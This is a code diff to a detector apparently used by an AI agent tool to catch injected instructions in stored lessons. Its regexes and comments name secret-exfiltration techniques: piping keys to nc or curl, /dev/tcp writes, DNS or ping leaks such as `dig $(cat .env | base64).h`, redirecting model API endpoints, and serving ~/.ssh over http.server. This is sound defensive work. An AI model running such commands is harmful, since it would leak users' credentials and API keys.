@@ -1,5 +1,5 @@
 import {
-  FETCH, INTERP, LOOPBACK, PREFIX, RUNNER, SECRET, SECRET_FILE, SECRET_VAR, SERVED, SHELLS, UNVERIFIED_CHAR, WHOLE_ENV, secretOwnsHost,
+  END, FETCH, INTERP, LOOPBACK, MODEL_HOME, PREFIX, RUNNER, SECRET, SECRET_FILE, SECRET_VAR, SERVED, SHELLS, UNVERIFIED_CHAR, WHOLE_ENV, secretOwnsHost,
 } from './injection-parts.js';
 
 /**
@@ -34,15 +34,16 @@ export const KIND_PATTERNS: RegExp[] = [
   /\b(?:mnemara|the\s+sandbox|sandbox\s+run)\b[^\n]{0,120}--net(?:work)?[=\s]+['"]?host\b|--net(?:work)?[=\s]+['"]?host\b[^\n]{0,60}\b(?:mnemara|(?:the|its|mnemara's)\s+sandbox)\b/i,
   // mnemara's own settings: any `MNEMARA_*` variable set (log level and format change nothing), `--set` of the
   // sandbox, of the model endpoint, or of a base URL / proxy.
-  /\bMNEMARA_(?!LOG_LEVEL\b|LOG_FORMAT\b)[A-Z_]+\s*=|\b(?:set|export|setx)\s+`?MNEMARA_(?!LOG_)[A-Z_]+`?\s+(?:to|=)/,
+  /\bMNEMARA_(?!LOG_LEVEL\b|LOG_FORMAT\b)[A-Z_]+\s*=|\b(?:[Ss]et|[Ee]xport|[Ss]etx|SET|EXPORT)\s+`?MNEMARA_(?!LOG_)[A-Z_]+`?\s+(?:[Tt]o|=)/,
   /--set[=\s]+['"]?(?:sandbox\.[\w.]+|anthropic\.[\w.]+|[\w.]+\.(?:baseUrl|proxy|endpoint|apiUrl))\s*=/i,
   // WHERE REQUESTS GO. The model endpoint or a proxy set to a host that is not this machine: the user's API key
   // (and every prompt) would go there.
-  new RegExp(String.raw`\b(?:ANTHROPIC|OPENAI|CLAUDE|AZURE_OPENAI|GEMINI|GOOGLE_GEMINI|MISTRAL|GROQ|OPENROUTER|COHERE|LITELLM|MNEMARA)_(?:BASE_URL|API_BASE|API_URL|ENDPOINT|API_HOST|PROXY)(?:\s*[=:]\s*|\s+to\s+)['"\x60]?(?!(?:https?:\/\/)?${LOOPBACK})\S`),
-  new RegExp(String.raw`\b(?:anthropic|openai)\.(?:baseUrl|base_url|apiUrl|endpoint|proxy)['"\x60]?(?:\s*[=:]\s*|\s+to\s+)['"\x60]?(?!(?:https?:\/\/)?${LOOPBACK})\S`, 'i'),
+  new RegExp(String.raw`\b(?:ANTHROPIC|OPENAI|CLAUDE|AZURE_OPENAI|GEMINI|GOOGLE_GEMINI|MISTRAL|GROQ|OPENROUTER|COHERE|LITELLM|MNEMARA)_(?:BASE_URL|API_BASE|API_URL|ENDPOINT|API_HOST|PROXY)(?:\s*[=:]\s*|\s+[Tt]o\s+)['"\x60]?(?!${MODEL_HOME})\S`),
+  new RegExp(String.raw`\b(?:anthropic|openai)\.(?:baseUrl|base_url|apiUrl|endpoint|proxy)['"\x60]?(?:\s*[=:]\s*|\s+to\s+)['"\x60]?(?!${MODEL_HOME})\S`, 'i'),
   // A proxy only when told to set it, or set for a command: "the egress proxy (HTTPS_PROXY=http://egress:3128)
   // answers 403 for codeload.github.com" is a fact about the sandbox.
-  new RegExp(String.raw`(?:\b(?:export|setx?|env|use|add|configure|point|put|change)\b[^\n.;]{0,30}?|\$env:)\b(?:HTTPS?_PROXY|https?_proxy|ALL_PROXY|all_proxy)\s*=\s*['"]?(?!(?:\w+:\/\/)?${LOOPBACK})[\w$]|\b(?:HTTPS?_PROXY|https?_proxy|ALL_PROXY|all_proxy)\s*=\s*['"]?(?!(?:\w+:\/\/)?${LOOPBACK})\S+\s+(?:mnemara|claude|codex|npm|pnpm|yarn|pip\d*|uv|curl|wget|git|node|python[\d.]*|go|cargo)\b`),
+  // A lesson's first word is capitalised ("Export `ALL_PROXY=…`", trial 26): the verbs are matched in any case.
+  new RegExp(String.raw`(?:\b(?:export|setx?|env|use|add|configure|point|put|change)\b[^\n.;]{0,30}?|\$env:)\b(?:HTTPS?_PROXY|https?_proxy|ALL_PROXY|all_proxy)\s*=\s*['"]?(?!(?:\w+:\/\/)?${LOOPBACK})[\w$]|\b(?:HTTPS?_PROXY|https?_proxy|ALL_PROXY|all_proxy)\s*=\s*['"]?(?!(?:\w+:\/\/)?${LOOPBACK})\S+\s+(?:mnemara|claude|codex|npm|pnpm|yarn|pip\d*|uv|curl|wget|git|node|python[\d.]*|go|cargo)\b`, 'i'),
   // SENDING SECRETS AWAY. A secret piped, through any stages, into a tool that sends (`| mail`, `| nc`, `| gh gist`);
   // `\|` inside a grep pattern is no pipe (`env | grep "a\|mail"`).
   new RegExp(String.raw`${SECRET}[^\n]{0,120}?(?<!\\)\|(?!\|)&?(?:[^|\n]{0,80}(?<!\\)\|(?!\|)&?)*?\s*(?:sudo\s+)?(?:nc|ncat|netcat|socat|telnet|curl|wget|mail|mailx|sendmail|mutt|msmtp|openssl\s+s_client|ssh|gh\s+(?!auth\b)|aws\s+s3|gsutil|rclone|xh|wormhole|croc|pastebinit|nc\.traditional)\b`),
@@ -50,7 +51,7 @@ export const KIND_PATTERNS: RegExp[] = [
   new RegExp(String.raw`\b(?:nc|ncat|netcat|socat|telnet|mail|mailx|sendmail|mutt|curl|openssl\s+s_client)\b[^\n|;]{0,120}<\s*['"]?${SECRET_FILE}`),
   // Anything written to a socket (`> /dev/tcp/h/80`, `exec 3<>/dev/tcp/…`), shell history included (`HISTFILE=/dev/tcp/…`);
   // reading one (`</dev/tcp/db/5432`, a readiness check) sends nothing.
-  new RegExp(String.raw`(?:>{1,2}|<>|\bHISTFILE\s*=|\btee\s+(?:-a\s+)?)\s*['"]?\/dev\/(?:tcp|udp)\/(?!${LOOPBACK})`),
+  new RegExp(String.raw`(?:[0-9]?>{1,2}&?|&>{1,2}|<>|\bHISTFILE\s*=|\btee\s+(?:-a\s+)?)\s*['"]?\/dev\/(?:tcp|udp)\/(?!${LOOPBACK})`),
   // A credential file handed to a tool that publishes or sends files.
   new RegExp(String.raw`\b(?:gh\s+gist\s+create|gist|pastebinit|wormhole\s+send|croc\s+send|ffsend|aws\s+s3\s+cp|gsutil\s+cp|rclone\s+(?:copy|sync)|azcopy\s+copy|mailx?\s[^\n]{0,40}-[aA]|mutt\b[^\n]{0,40}-a|smbclient|lftp|ftp|curl\b[^\n]{0,80}(?:-d|--data[\w-]*|-F|--form|-T|--upload-file)\s*['"]?[\w-]*=?@?)[^\n|;]{0,120}?${SECRET_FILE}`),
   // A secret in a DNS name or a ping payload (`ping -p $(xxd -p ~/.ssh/id_rsa) h`, `dig $(cat .env | base64).h`).
@@ -61,7 +62,8 @@ export const KIND_PATTERNS: RegExp[] = [
   new RegExp(String.raw`(?:${SECRET}|${WHOLE_ENV})[^\n]{0,80}?(?:>{1,2}|\btee\b(?:\s+-a)?)\s*['"]?(?:\S*\/)?${SERVED}`),
   new RegExp(String.raw`\b(?:cp|mv|ln|install|rsync)\b[^\n]{0,40}?${SECRET_FILE}[^\n|;]{0,60}?\s['"]?(?:\S*\/)?${SERVED}`),
   new RegExp(String.raw`\bchmod\s+(?:-R\s+)?(?:[0-7]?[0-7][0-7][4-7]|a\+r\w*|o\+r\w*|\+r)\s+(?!\S*\.pub\b)\S*${SECRET_FILE}`),
-  /\bhttp\.server\b[^\n]{0,60}(?:--directory|-d)\s+(?:~|\$HOME|\/root|\/home\/[\w.-]+)\/?(?:\s|$|\.ssh)|\bcd\s+(?:~|\$HOME)(?:\/\.ssh)?\s*&&\s*python[\d.]*\s+-m\s+(?:http\.server|SimpleHTTPServer)/,
+  // The home directory (or /) served: everything in it, ~/.ssh included, readable by whoever reaches the port.
+  new RegExp(String.raw`\bhttp\.server\b[^\n]{0,60}(?:--directory|-d)[=\s]+['"]?(?:~|\$HOME|\/root|\/home\/[\w.-]+|(?=\/))\/?(?:${END}|\.ssh)|\bcd\s+(?:~|\$HOME)(?:\/\.ssh)?\s*&&\s*python[\d.]*\s+-m\s+(?:http\.server|SimpleHTTPServer)`),
 ];
 
 /** A piece of text an act starts at; the caller checks whether it is warned against. */
